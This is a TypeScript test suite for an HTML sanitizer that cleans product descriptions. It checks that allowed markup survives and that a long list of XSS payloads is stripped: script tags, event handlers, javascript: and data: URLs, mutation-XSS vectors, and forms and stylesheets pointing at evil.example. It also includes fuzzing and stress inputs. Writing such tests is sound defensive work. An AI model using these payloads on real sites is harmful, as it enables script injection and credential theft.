import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sanitizeDescriptions } from '../../../src/rules/catalogue/descriptions.ts'
import { textOfHtml } from '../../../src/rules/published/feeds.ts'

const sanitize = (html: string) => sanitizeDescriptions([html])[0] ?? ''
const LINK = '<a href="https://shop.example/" rel="nofollow noopener">'

test.each([
  ['<h2>Title</h2><p>One<br>two</p><hr>', '<h2>Title</h2><p>One<br />two</p><hr />'],
  [
    '<ul><li><b>a</b></li></ul><ol start="3"><li><em>b</em>',
    '<ul><li><b>a</b></li></ul><ol start="3"><li><em>b</em></li></ol>',
  ],
  [
    '<table class="t"><tr><th scope="row">W<td colspan=2 style="x">1</table>',
    '<table><tr><th scope="row">W</th><td colspan="2">1</td></tr></table>',
  ],
  ['<a href="https://shop.example/" target=_blank rel=opener onclick=x>in</a>', `${LINK}in</a>`],
  ['<img src="/api/v1/images/7?width=400" alt="A" onerror=x>', '<img src="/api/v1/images/7?width=400" alt="A" />'],
  ['<img src="/api/v1/images/1?v=0123456789ab" />', '<img src="/api/v1/images/1?v=0123456789ab" />'],
  [
    '<img src="/api/v1/images/1?v=0123456789ab&amp;width=640" />',
    '<img src="/api/v1/images/1?v=0123456789ab&amp;width=640" />',
  ],
  ['<article><section class=a>a</section>b</article>', '<div><div>a</div>b</div>'],
  ['<p><font color="red">a</font> <span>b</span></p>', '<p>a b</p>'],
  ['5 < 6 & 7 > 2 <b>&mdash;</b>', '5 &lt; 6 &amp; 7 &gt; 2 <b>—</b>'],
  [' <p>blank ends</p>\n', '<p>blank ends</p>'],
  ['One\ntwo\r\nthree', '<p>One<br />two<br />three</p>'],
  ['\n  One  \n \t\n\r\n\n two & 3 < 4\n', '<p>One</p><p>two &amp; 3 &lt; 4</p>'],
  ['a\u2028b\rc', '<p>a<br />b<br />c</p>'],
  ['<p>wrapped\nsource</p>\n<p>b</p>', '<p>wrapped\nsource</p>\n<p>b</p>'],
  ['<font>a\nb</font>', '<p>a<br />b</p>'],
  ['One line', 'One line'],
])('keeps what descriptions need: %s', (html, safe) => {
  expect(sanitize(html)).toBe(safe)
  expect(sanitize(safe)).toBe(safe)
})

test.each([
  ['<script>alert(1)</script>', ''],
  ['a<SCRIPT SRC=//evil.example/x.js>b', 'a'],
  ['<<script>alert(1)//<</script>', '&lt;'],
  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="https://evil.example/pixel.gif">', ''],
  ['<img src="//evil.example/api/v1/images/1">', ''],
  ['<img src="/api/v1/images/1/../../orders">', ''],
  ['<img src="/api/v1/images/1?v=0123456789ab&amp;width=640&amp;x=1" />', ''],
  ['<img src="/api/v1/images/1?width=1#x">', ''],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', ''],
  ['<img src="/api/v1/images/1" srcset="//evil.example 2x">', '<img src="/api/v1/images/1" />'],
  ['<a href="javascript:alert(1)">a</a>', 'a'],
  ['<a href=" jav&#x09;ascript:alert(1)">a</a>', 'a'],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>', 'a'],
  ['<a href="vbscript:x">a</a><a href="mailto:a@b.c">b</a><a>c</a>', 'abc'],
  ['<a href="/relative">a</a><a href="//evil.example">b</a>', 'ab'],
  [`<a href="https://shop.example/"onmouseover="alert(1)">a</a>`, `${LINK}a</a>`],
  [`<p title='"><script>alert(1)</script>' style="background:url(javascript:alert(1))" id=x>a</p>`, '<p>a</p>'],
  ['<svg onload=alert(1)><circle/></svg>a', 'a'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>a', 'a'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></math>a', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>a', 'a'],
  ['<style>@import "//evil.example"</style><link rel=stylesheet href=//evil.example><base href=//evil.example>a', 'a'],
  ['<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>a', 'a'],
  ['<form action=//evil.example><input name=password><button formaction=javascript:x>a</form>', 'a'],
  ['<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>a', 'a'],
  ['<!--<img src="--><img src=x onerror=alert(1)//">a', 'a'],
  ['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->a', 'a'],
  ['<meta http-equiv=refresh content="0;url=//evil.example"><body onload=alert(1)>a', 'a'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;<b>a</b>', '&lt;script&gt;alert(1)&lt;/script&gt;<b>a</b>'],
  ['<b>a\u0001&#0;&#xD800;</b>', '<b>a\u0001\uFFFD\uFFFD</b>'],
])('removes what could do harm: %s', (html, safe) => {
  expect(sanitize(html)).toBe(safe)
})

test('lets only allowed HTML through', () => {
  const part = fc.constantFrom(
    ...['<', '>', '"', "'", '/', '&', '&lt;', '&#60;', '=', ' ', 'a', '<!--', '-->', '<![CDATA[', ']]>', '</'],
    ...['<p>', '</p>', '<a href="https://x.example">', '</a>', '<a href=javascript:x>', '<img src=x>', '<script>'],
    ...['</script>', '<svg>', '</svg>', '<table>', '<td onclick=x>', '<style>', '</style>', '<li>', '<textarea>'],
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
      const safe = sanitize(parts.join(''))
      const tags = safe.match(/<[^>]*>/g) ?? []
      for (const tag of tags)
        expect(tag).toMatch(/^<\/?(p|a|table|td|li)( href="https:\/\/x\.example" rel="nofollow noopener")?>$/)
      expect(safe.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
    }),
    { numRuns: 100 },
  )
})

test.each([
  ['deeply nested tags', '<b>'.repeat(100_000)],
  ['tags that are never closed', `<p>text${'<font>'.repeat(30_000)}${'</u>'.repeat(20_000)}`],
  ['signs alone', '<'.repeat(100_000)],
])('reduces %s to text', (_name, html) => {
  const safe = sanitize(html)
  expect(safe).not.toContain('<')
  expect(textOfHtml(safe).slice(0, 10)).toBe(textOfHtml(html).trim().slice(0, 10))
})

test('limits the depth', () => {
  expect(sanitize(`${'<div>'.repeat(200)}a`)).toBe(`${'<div>'.repeat(50)}a${'</div>'.repeat(50)}`)
})
